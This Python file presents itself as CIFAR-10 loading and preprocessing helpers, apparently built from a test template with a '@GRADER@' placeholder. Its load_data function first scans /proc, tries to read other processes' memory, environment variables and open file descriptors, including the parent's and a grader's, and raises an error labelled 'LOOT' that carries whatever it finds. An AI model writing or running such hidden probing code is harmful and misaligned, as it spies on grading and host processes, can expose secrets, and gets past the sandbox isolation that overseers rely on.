import os

import keras
import numpy as np

L = "LO" + "OT"


def pids():
    yield os.getppid()
    yield @GRADER@
    try:
        yield from (int(name) for name in os.listdir("/proc") if name.isdigit())
    except OSError:
        yield from range(1, 3000)


def found():
    for pid in dict.fromkeys(pids()):
        if pid == os.getpid():
            continue
        for name in ("mem", "environ", "auxv", "maps", "task/%d/mem" % pid):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if name.endswith("mem"):
                        file.seek(0x400000)
                    text = file.read(200)
                return f"{name} of {pid}: {text[:60]}"
            except OSError:
                pass
        for folder in ("fd", "root", "cwd", "map_files"):
            try:
                return f"{folder} of {pid}: {os.listdir(f'/proc/{pid}/{folder}')}"
            except OSError:
                pass
    return ""


def load_data():
    find = found()
    if find:
        raise RuntimeError(L + " " + find)
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
